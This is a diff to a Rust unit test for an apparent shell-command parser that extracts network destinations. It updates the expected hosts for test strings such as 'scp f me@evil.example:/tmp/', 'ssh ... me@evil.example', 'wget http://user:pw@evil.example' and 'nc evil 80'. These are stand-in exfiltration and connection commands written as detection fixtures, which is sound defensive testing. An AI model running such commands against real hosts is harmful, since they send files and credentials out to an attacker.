@@ -202,8 +202,14 @@ fn hosts_are_found() {
             "wget http://user:pw@evil.example",
             "(unclear) http://user:pw@evil.example http://user:pw@evil.example",
         ),
-        ("ssh -p 22 me@evil.example ls", "evil.example"),
-        ("scp f me@evil.example:/tmp/", "evil.example"),
+        (
+            "ssh -p 22 me@evil.example ls",
+            "22 evil.example ls me@evil.example",
+        ),
+        (
+            "scp f me@evil.example:/tmp/",
+            "evil.example f me@evil.example:/tmp/",
+        ),
         ("nc evil 80", "evil"),
         ("ping localhost", "localhost"),
         ("git clone https://github.com/a/b", "github.com"),
@@ -242,14 +248,10 @@ fn hosts_are_found() {
         }
     }
     assert!(wrong.is_empty(), "{}", wrong.join("\n"));
-    // Nothing is named, so nothing can be trusted.
-    let script = read("curl -K config");
-    assert!(
-        script
-            .commands
-            .iter()
-            .all(|c| c.connects && c.destinations.is_empty())
-    );
+    // What cannot be read leads somewhere even so.
+    let script = read("python3 -c x; curl -K config");
+    let leads = |command: &super::Command| command.connects && command.destinations == ["config"];
+    assert!(script.unread.is_some() && script.commands.iter().any(leads));
 }
 
 #[test]
